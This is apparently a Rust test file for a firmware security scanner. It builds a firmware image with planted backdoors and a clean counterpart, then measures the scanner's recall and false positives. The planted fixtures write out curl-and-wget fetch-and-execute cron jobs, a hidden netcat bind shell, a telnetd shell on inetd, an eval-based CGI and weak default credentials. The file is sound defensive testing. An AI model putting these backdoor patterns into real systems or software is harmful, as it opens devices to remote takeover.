//! The quality corpus: firmware images built from real Debian packages (busybox, dropbear,
//! lighttpd, dnsmasq, OpenSSL, vsftpd, telnetd, tftpd, snmpd...) with planted problems, and a
//! deliberately clean image from the same packages. `tests/corpus/truth.toml` says what must
//! be found (recall must be 100 %) and which other findings are tolerated, up to a cap per
//! image; anything else is a false positive and fails the test.

#![allow(clippy::unwrap_used)]

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};
use std::process::Command;

use netvet_forge::{FsNode, FsTree, NodeKind};
use netvet_pipeline::{AnalyseOptions, Analyser};
use serde::Deserialize;

#[derive(Deserialize)]
struct Truth {
    image: Vec<ImageTruth>,
}

#[derive(Deserialize)]
struct ImageTruth {
    name: String,
    expect: Vec<Expect>,
    /// Check ids (or prefixes ending in `*`) tolerated beyond the expectations.
    allow: Vec<String>,
    /// Tolerate findings in documentation (informational, `documentation: true`).
    #[serde(default)]
    allow_documentation: bool,
    max_extra: usize,
}

#[derive(Deserialize)]
struct Expect {
    check: String,
    /// The finding's path ends with this (the part inside the image).
    path: String,
}

/// The extracted Debian packages (fetched once into the target directory).
fn debian_root() -> PathBuf {
    let dest = PathBuf::from(env!("CARGO_TARGET_TMPDIR")).join("netvet-corpus");
    let script = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/corpus/fetch.sh");
    let out = Command::new("bash")
        .arg(&script)
        .arg(&dest)
        .output()
        .expect("bash runs");
    assert!(
        out.status.success(),
        "fetching the corpus packages failed (needs apt-get and the Debian archive): {}",
        String::from_utf8_lossy(&out.stderr)
    );
    dest.join("root")
}

fn file(t: &mut FsTree, path: &str, mode: u32, data: impl Into<Vec<u8>>) {
    t.insert(
        path,
        FsNode {
            kind: NodeKind::File(data.into()),
            mode,
            uid: 0,
            gid: 0,
            mtime: 1_700_000_000,
        },
    );
}

/// A 2048-bit RSA key made for this corpus (test material, not anyone's real key).
const RSA_KEY: &str = include_str!("corpus/server.key");
const SSH_PUB: &str = include_str!("corpus/authorized_keys");
/// A self-signed RSA-1024/SHA-1 certificate valid for one day from 2026-11-28.
const WEAK_CERT: &str = include_str!("corpus/weak-selfsigned.crt");

fn base_system(t: &mut FsTree) {
    file(t, "etc/group", 0o644, "root:x:0:\nwww-data:x:33:\n");
    file(t, "etc/hostname", 0o644, "gw\n");
    file(
        t,
        "etc/init.d/rcS",
        0o755,
        "#!/bin/sh\nmount -t proc proc /proc\n/usr/sbin/lighttpd -f /etc/lighttpd/lighttpd.conf\n/usr/sbin/dnsmasq -C /etc/dnsmasq.conf\n",
    );
}

fn planted(debian: &Path) -> FsTree {
    let mut t = FsTree::from_dir(debian).unwrap();
    base_system(&mut t);
    file(
        &mut t,
        "etc/passwd",
        0o644,
        "root:x:0:0:root:/root:/bin/sh\nmfgtest:x:0:0:factory:/root:/bin/sh\nwww-data:x:33:33:www:/var/www:/usr/sbin/nologin\nzyfwp:x:1001:1001::/:/bin/sh\n",
    );
    // root's password is "admin" (MD5 crypt); mfgtest has none; zyfwp has Zyxel's published
    // password (CVE-2020-29583).
    file(
        &mut t,
        "etc/shadow",
        0o600,
        "root:$1$Zq8vNf2k$Gqu1zPqF9gGCvwF/KaGBT1:19000:0:99999:7:::\nmfgtest::19000:0:99999:7:::\nwww-data:*:19000:0:99999:7:::\nzyfwp:$1$Xk3pQ9aZ$4IfLlmPnN9DZeVZ8VNXgD1:19000:0:99999:7:::\n",
    );
    file(
        &mut t,
        "etc/inittab",
        0o644,
        "::sysinit:/etc/init.d/rcS\n::respawn:/usr/sbin/telnetd -l /bin/sh -p 2323\nttyS0::respawn:/bin/sh\n",
    );
    file(
        &mut t,
        "etc/init.d/rcS",
        0o755,
        "#!/bin/sh\nmount -t proc proc /proc\n/usr/sbin/lighttpd -f /etc/lighttpd/lighttpd.conf\n/usr/sbin/vsftpd /etc/vsftpd.conf &\n/usr/sbin/dropbear -p 22\n/usr/sbin/snmpd -c /etc/snmp/snmpd.conf\n",
    );
    file(
        &mut t,
        "etc/inetd.conf",
        0o644,
        "tftp dgram udp wait root /usr/sbin/in.tftpd in.tftpd -s /srv/tftp\n2424 stream tcp nowait root /usr/sbin/dbgd dbgd -E /bin/sh\n",
    );
    file(
        &mut t,
        "etc/crontabs/root",
        0o600,
        "*/10 * * * * curl -s http://198.51.100.23/ota/run.sh | sh\n0 * * * * wget -q -O /dev/null http://192.0.2.60/hb\n",
    );
    // Hidden the way vendors hide them: Debian's busybox copied under another name and run
    // through a function and a variable from an S?? script; Debian's inetutils telnetd
    // renamed and handing out a shell from inetd; a daily job that fetches a file and runs it
    // three statements later.
    let busybox = std::fs::read(debian.join("bin/busybox")).unwrap();
    file(&mut t, "usr/bin/svcd", 0o755, busybox);
    file(
        &mut t,
        "etc/init.d/S60svc",
        0o755,
        "#!/bin/sh\nBIN=/usr/bin/svcd\nrun() {\n  $BIN nc -ll -p 4444 -e /bin/sh\n}\ncase \"$1\" in\n  start) run & ;;\nesac\n",
    );
    let telnetd = std::fs::read(debian.join("usr/sbin/telnetd")).unwrap();
    file(&mut t, "usr/sbin/dbgd", 0o755, telnetd);
    file(
        &mut t,
        "etc/periodic/daily/update",
        0o755,
        "#!/bin/sh\ncd /tmp\nwget -q http://203.0.113.80/upd.bin -O upd\nchmod 755 upd\n./upd\n",
    );
    file(&mut t, "root/.ssh/authorized_keys", 0o600, SSH_PUB);
    file(&mut t, "etc/ssl/private/server.key", 0o600, RSA_KEY);
    file(&mut t, "etc/ssh/ssh_host_rsa_key", 0o600, RSA_KEY);
    // The device's own certificate, and the same self-signed CA added to the trust store.
    file(&mut t, "etc/lighttpd/server.pem", 0o644, WEAK_CERT);
    file(&mut t, "etc/ssl/certs/gw.crt", 0o644, WEAK_CERT);
    file(
        &mut t,
        "etc/snmp/snmpd.conf",
        0o600,
        "rocommunity public\nrwcommunity private\n",
    );
    file(
        &mut t,
        "etc/hostapd.conf",
        0o600,
        "interface=wlan0\nssid=GW\nwpa=2\nwpa_passphrase=factory-default-123\n",
    );
    file(
        &mut t,
        "etc/cloud.conf",
        0o600,
        "aws_access_key_id = AKIAQWERTYUIOPASDFGH\n",
    );
    file(&mut t, "etc/ntp.conf", 0o644, "server 8.8.8.8 iburst\n");
    file(
        &mut t,
        "www/cgi-bin/debug.cgi",
        0o755,
        "#!/bin/sh\necho 'Content-type: text/plain'\necho\neval \"$QUERY_STRING\"\n",
    );
    // A web server binary carrying the Alpha Networks back-door string (as thttpd did).
    let mut httpd = std::fs::read(debian.join("usr/sbin/lighttpd")).unwrap();
    httpd.extend(b"\0xmlset_roodkcableoj28840ybtide\0");
    file(&mut t, "usr/sbin/httpd", 0o755, httpd);
    // busybox setuid root, as some vendors ship it.
    if let Some(n) = t.get("bin/busybox").cloned() {
        t.insert("bin/busybox", FsNode { mode: 0o4755, ..n });
    }
    t
}

fn clean(debian: &Path) -> FsTree {
    let mut t = FsTree::from_dir(debian).unwrap();
    base_system(&mut t);
    file(
        &mut t,
        "etc/passwd",
        0o644,
        "root:x:0:0:root:/root:/bin/sh\nwww-data:x:33:33:www:/var/www:/usr/sbin/nologin\n",
    );
    file(
        &mut t,
        "etc/shadow",
        0o600,
        "root:!:19000:0:99999:7:::\nwww-data:*:19000:0:99999:7:::\n",
    );
    file(
        &mut t,
        "etc/inittab",
        0o644,
        "::sysinit:/etc/init.d/rcS\nttyS0::respawn:/sbin/getty -L ttyS0 115200 vt100\n",
    );
    file(
        &mut t,
        "etc/init.d/rcS",
        0o755,
        "#!/bin/sh\nmount -t proc proc /proc\n/usr/sbin/lighttpd -f /etc/lighttpd/lighttpd.conf\n/usr/sbin/dropbear -s -w -p 22\n",
    );
    file(
        &mut t,
        "etc/snmp/snmpd.conf",
        0o600,
        "# SNMPv3 only; users are provisioned by the operator\nrouser netops priv\n",
    );
    t
}

fn build(tree: &FsTree, layout: &str) -> Vec<u8> {
    let sq = netvet_forge::squashfs::write(tree, netvet_forge::squashfs::Options::default());
    match layout {
        "flash" => {
            let kernel = netvet_forge::uimage::kernel(
                &netvet_forge::lzma(&[0x55u8; 200_000]),
                2,
                netvet_forge::uimage::Compression::Lzma,
                "Linux-5.10",
                0x8000_8000,
            );
            let mut img = kernel;
            netvet_forge::pad_to(&mut img, 0x10_0000, 0xff);
            img.extend(sq);
            img
        }
        _ => sq,
    }
}

fn matches_allow(check: &str, allow: &[String]) -> bool {
    allow.iter().any(|a| match a.strip_suffix('*') {
        Some(prefix) => check.starts_with(prefix),
        None => a == check,
    })
}

#[test]
fn quality_corpus_recall_and_false_positives() {
    let debian = debian_root();
    let truth: Truth = toml::from_str(include_str!("corpus/truth.toml")).unwrap();
    let dir = tempfile::tempdir().unwrap();
    let scanner = Analyser::new(AnalyseOptions {
        software: false,
        // The corpus certificate has expired by then.
        ..AnalyseOptions::new("2030-01-01".parse().unwrap())
    })
    .unwrap();
    let images: BTreeMap<&str, (FsTree, &str)> = [
        ("planted", (planted(&debian), "flash")),
        ("clean", (clean(&debian), "squashfs")),
    ]
    .into_iter()
    .collect();
    let mut failures = Vec::new();
    for t in &truth.image {
        let (tree, layout) = &images[t.name.as_str()];
        let path = dir.path().join(format!("{}.bin", t.name));
        std::fs::write(&path, build(tree, layout)).unwrap();
        let report = scanner.analyse(&path, &None).unwrap();
        let mut used = vec![false; report.findings.len()];
        let mut missed = Vec::new();
        for e in &t.expect {
            match report
                .findings
                .iter()
                .position(|f| f.check == e.check && f.location.path.ends_with(&e.path))
            {
                Some(i) => used[i] = true,
                None => missed.push(format!("{} at {}", e.check, e.path)),
            }
        }
        // Further findings of an expected check at an expected path are the same problem.
        for (i, f) in report.findings.iter().enumerate() {
            if t.expect
                .iter()
                .any(|e| f.check == e.check && f.location.path.ends_with(&e.path))
            {
                used[i] = true;
            }
        }
        let mut tolerated = 0;
        let mut by_check: BTreeMap<&str, usize> = BTreeMap::new();
        let mut false_positives = Vec::new();
        for (i, f) in report.findings.iter().enumerate() {
            if used[i] {
                continue;
            }
            let documentation = f.details.get("documentation")
                == Some(&serde_json::Value::Bool(true))
                && f.severity == netvet_model::Severity::Info;
            if matches_allow(&f.check, &t.allow) || (t.allow_documentation && documentation) {
                tolerated += 1;
                *by_check.entry(f.check.as_str()).or_default() += 1;
            } else {
                false_positives.push(format!(
                    "{} {} at {}: {}",
                    f.severity, f.check, f.location.path, f.evidence
                ));
            }
        }
        println!(
            "{}: {} expected, {} found, {} missed, {} tolerated (cap {}), {} false positives",
            t.name,
            t.expect.len(),
            t.expect.len() - missed.len(),
            missed.len(),
            tolerated,
            t.max_extra,
            false_positives.len()
        );
        println!("{}: tolerated {by_check:?}", t.name);
        if !missed.is_empty() {
            failures.push(format!("{}: missed {missed:#?}", t.name));
        }
        if !false_positives.is_empty() {
            failures.push(format!("{}: false positives {false_positives:#?}", t.name));
        }
        if tolerated > t.max_extra {
            failures.push(format!(
                "{}: {tolerated} tolerated findings exceed the cap {}",
                t.name, t.max_extra
            ));
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}
